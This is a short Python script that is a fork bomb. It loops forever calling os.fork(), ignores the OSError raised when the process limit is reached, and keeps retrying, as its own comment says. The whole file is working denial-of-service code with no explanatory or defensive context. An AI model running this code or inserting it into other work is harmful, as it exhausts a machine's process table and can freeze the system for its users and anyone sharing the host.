import os

# Forks until the process limit stops it, then keeps trying.
while True:
    try:
        os.fork()
    except OSError:
        pass
